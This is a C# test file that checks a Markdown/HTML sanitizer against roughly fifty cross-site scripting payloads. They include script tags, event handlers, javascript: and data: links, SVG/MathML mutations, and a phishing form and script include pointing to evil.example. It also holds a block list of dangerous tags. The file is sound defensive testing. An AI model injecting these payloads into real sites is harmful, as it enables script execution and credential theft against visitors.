using AngleSharp.Html.Parser;
using WebApp.Content;

namespace WebApp.Tests.Content;

/// <summary>Markdown and HTML that mean harm, and what became of each: what the reader's browser gets, to the letter.</summary>
public sealed class HostileTextTests
{
    private static readonly string[] Harmful = ["script", "style", "iframe", "object", "embed", "form", "input", "button", "link", "meta", "base", "template", "svg", "math", "noscript"];
    private static readonly string[] Addresses = ["href", "src", "action", "formaction", "data", "srcset", "poster"];

    public static TheoryData<string, string, string> Cases => new()
    {
        { "a script", "<script>alert(1)</script>", "" },
        { "a script in capitals, over lines", "<ScRiPt\n>alert(1)</sCrIpT\n>", "" },
        { "a script inside a script", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p>&lt;script&gt;</p>" },
        { "a script of another site in a sentence", "Hello <script src=//evil.example/x.js></script> world", "<p>Hello  world</p>" },
        { "a picture that fails on purpose", "<img src=x onerror=alert(1)>", "<img src=\"x\">" },
        { "a handler behind a slash", "<img/src=\"x\"/onerror=alert(1)>", "<p>&lt;img/src=\"x\"/onerror=alert(1)&gt;</p>" },
        { "a handler after a line end", "<img src=\"x\"\nonerror\n=\nalert(1)>", "<h1 id=\"img-srcx-onerror\">&lt;img src=\"x\"\nonerror</h1>\n<p>alert(1)&gt;</p>" },
        { "a picture out of a script address", "<img src=\"javascript:alert(1)\">", "<img>" },
        { "a link to a script", "[a](javascript:alert(1))", "<p><a>a</a></p>" },
        { "a link to a script in capitals and spaces", "[a]( JaVaScRiPt:alert(1) )", "<p><a>a</a></p>" },
        { "a link to a script in entities", "[a](&#106;avascript&colon;alert(1))", "<p><a>a</a></p>" },
        { "a link to a script over a tab", "<a href=\"java\tscript:alert(1)\">a</a>", "<p><a>a</a></p>" },
        { "a link to a script behind a control character", "<a href=\"\u0001javascript:alert(1)\">a</a>", "<p><a>a</a></p>" },
        { "a link by reference to a script", "[a][b]\n\n[b]: javascript:alert(1)", "<p><a>a</a></p>" },
        { "an automatic link to a script", "<javascript:alert(1)>", "<p><a>javascript:alert(1)</a></p>" },
        { "a link to vbscript", "[a](vbscript:msgbox(1))", "<p><a>a</a></p>" },
        { "a link to data", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<p><a>a</a></p>" },
        { "a picture out of data", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "<p><img alt=\"a\"></p>" },
        { "a link to a file of the reader's", "[a](file:///etc/passwd)", "<p><a>a</a></p>" },
        { "words of a picture that break out", "![a\" onerror=\"alert(1)](x.png)", "<p><img src=\"x.png\" alt=\"a&quot; onerror=&quot;alert(1)\"></p>" },
        { "a title that breaks out", "[a](/x 'b\" onclick=\"alert(1)')", "<p><a href=\"/x\" title=\"b&quot; onclick=&quot;alert(1)\">a</a></p>" },
        { "an address that breaks out", "[a](/x\"onclick=alert(1)//)", "<p><a href=\"/x%22onclick=alert(1)//\">a</a></p>" },
        { "a language of code that breaks out", "```js\" onmouseover=\"alert(1)\ncode\n```", "<pre><code>code\n</code></pre>" },
        { "a script in code", "`<script>alert(1)</script>`", "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>" },
        { "an SVG that runs when it is there", "<svg onload=alert(1)><circle r=1/></svg>", "<p></p>" },
        { "a script in an SVG", "<svg><script>alert(1)</script></svg>", "<p></p>" },
        { "a link that an SVG moves to a script", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>a</text></a></svg>", "<p></p>" },
        { "MathML with a script for an address", "<math href=\"javascript:alert(1)\">a</math>", "<p></p>" },
        { "a mutation through MathML and a style", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<p></p>" },
        { "a mutation through noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<p><img src=\"x\">\"&gt;</p>" },
        { "a frame", "<iframe src=//evil.example></iframe>", "" },
        { "a frame with its page inside", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "" },
        { "an object and an embed", "<object data=\"javascript:alert(1)\"></object><embed src=\"//evil.example/x.swf\">", "<p></p>" },
        { "a form that asks for the password", "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>", "" },
        { "a button that sends another form elsewhere", "<button form=checkout formaction=//evil.example>Pay</button>", "<p></p>" },
        { "a style sheet", "<style>body{background:url(//evil.example)}</style>", "" },
        { "a style that covers the page", "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">a</div>", "<div>a</div>" },
        { "a sheet of another site", "<link rel=stylesheet href=//evil.example/x.css>", "" },
        { "a page that leads away by itself", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "" },
        { "another base for all links", "<base href=//evil.example/>", "" },
        { "a template that hides a script", "<template><script>alert(1)</script></template>", "<p></p>" },
        { "an element of one's own with a handler", "<x-thing onpointerover=alert(1) tabindex=1 autofocus onfocus=alert(2)>a</x-thing>", "<p></p>" },
        { "details that run when opened", "<details open ontoggle=alert(1)><summary>a</summary>b</details>", "<details open=\"\"><summary>a</summary>b</details>" },
        { "a video that fails on purpose", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>", "<p></p>" },
        { "a comment that is closed in between", "<!--><script>alert(1)</script>-->", "--&gt;" },
        { "a comment for old browsers", "<!--[if IE]><script>alert(1)</script><![endif]-->", "" },
        { "CDATA", "<![CDATA[<script>alert(1)</script>]]>", "alert(1)]]&gt;" },
        { "an instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "" },
        { "a tag that is never closed", "<img src=x onerror=alert(1) ", "<p>&lt;img src=x onerror=alert(1)</p>" },
        { "a zero character in a tag", "<scr\0ipt>alert(1)</scr\0ipt>", "<p>&lt;scr\ufffdipt&gt;alert(1)&lt;/scr\ufffdipt&gt;</p>" },
        { "a footnote with a script", "a[^1]\n\n[^1]: <script>alert(1)</script><img src=x onerror=alert(1)>", "<p>a<a id=\"fnref:1\" href=\"#fn:1\"><sup>1</sup></a></p>\n<div>\n<hr>\n<ol>\n<li id=\"fn:1\">\n <img src=\"x\">\n<p><a href=\"#fnref:1\">\u21a9</a></p>\n</li>\n</ol>\n</div>" },
        { "a table with a script", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td><img src=\"x\"></td>\n</tr>\n</tbody>\n</table>" },
        { "a heading whose name would be the page's own", "# location\n\n<a id=cookie name=cookie>a</a>", "<h1 id=\"location\">location</h1>\n<p><a id=\"cookie\">a</a></p>" },
        { "a window that reaches back", "<a href=https://evil.example target=_blank rel=opener>a</a>", "<p><a href=\"https://evil.example\" rel=\"opener\">a</a></p>" },
        { "fields that a script reads", "<div data-writing data-action=\"/admin\" class=x>a</div>", "<div>a</div>" },
    };

    [Theory]
    [MemberData(nameof(Cases), DisableDiscoveryEnumeration = true)]
    public void Nothing_that_runs_leads_astray_or_covers_the_page_reaches_a_reader(string what, string typed, string shown)
    {
        var html = Markup.ToHtml(typed);
        // Pictures are loaded when they come near, whatever they are.
        html.Replace(" loading=\"lazy\" decoding=\"async\"", "", StringComparison.Ordinal).Trim().ShouldBe(shown, what);
        foreach (var element in new HtmlParser().ParseDocument(html).All)
        {
            Harmful.ShouldNotContain(element.LocalName, what);
            element.Attributes.Where(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || a.Name is "style" or "srcdoc" or "target" or "name").ShouldBeEmpty(what);
            element.Attributes.Where(a => Addresses.Contains(a.Name) && IsNoAddress(a.Value)).ShouldBeEmpty(what);
        }
    }

    private static bool IsNoAddress(string value) => value.Split(':') is [var scheme, _, ..] && scheme.All(char.IsLetter) && scheme.ToUpperInvariant() is not ("HTTP" or "HTTPS" or "MAILTO" or "TEL");
}
